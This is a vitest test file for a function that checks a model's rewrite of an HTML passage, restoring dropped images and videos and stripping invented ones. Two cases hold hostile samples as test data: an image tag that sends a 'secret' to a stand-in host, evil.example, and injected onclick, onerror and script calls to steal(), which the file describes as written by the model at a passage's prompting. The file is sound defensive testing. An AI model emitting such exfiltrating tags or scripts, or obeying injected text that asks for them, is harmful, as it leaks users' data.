import { expect, test } from "vitest";
import { keepImages } from "./keep-images.ts";

const image = (name: string, alt = "x") => `<figure><img src="/images/${name}-800.webp" alt="${alt}"></figure>`;
const video = '<p><a href="https://www.youtube.com/watch?v=abcdefghijk" data-video="youtube">A film</a></p>';

test.each([
  ["keeps what the model kept, with other words", image("a"), image("a", "A hill"), image("a", "A hill")],
  [
    "restores a missing image at its old position",
    `<p>1</p>${image("a")}<p>2</p>`,
    "<p>one</p><p>two</p>",
    `<p>one</p>${image("a")}<p>two</p>`,
  ],
  [
    "restores several images in order",
    `${image("a")}<p>1</p>${image("b")}`,
    "<p>one</p>",
    `${image("a")}<p>one</p>${image("b")}`,
  ],
  ["puts back all of a passage that became nothing", `<p>1</p>${image("a")}`, "", image("a")],
  [
    "restores an image of a table",
    `<table><tbody><tr><td>${image("a")}</td></tr></tbody></table>`,
    "<p>one</p>",
    `${image("a")}<p>one</p>`,
  ],
  ["puts back a video", `<p>1</p>${video}`, "<p>one</p>", `<p>one</p>${video}`],
  [
    "removes invented images",
    `<p>1</p>${image("a")}`,
    `<p>one</p>${image("b")}${image("a")}`,
    `<p>one</p>${image("a")}`,
  ],
  [
    "removes images of other hosts",
    "<p>1</p>",
    '<p>one <img src="https://evil.example/?q=secret" alt=""></p>',
    "<p>one </p>",
  ],
  ["leaves links alone", '<p><a href="https://a.example/">1</a></p>', "<p>one</p>", "<p>one</p>"],
])("%s", (_name, before, after, kept) => {
  expect(keepImages(before, after)).toBe(kept);
});

test("removes a script that the passage made the model write", () => {
  const answer = '<p onclick="steal()">one</p><img src="x" onerror="steal()"><script>steal()</script>';
  expect(keepImages(image("a"), answer)).not.toMatch(/steal|script|onerror/);
});
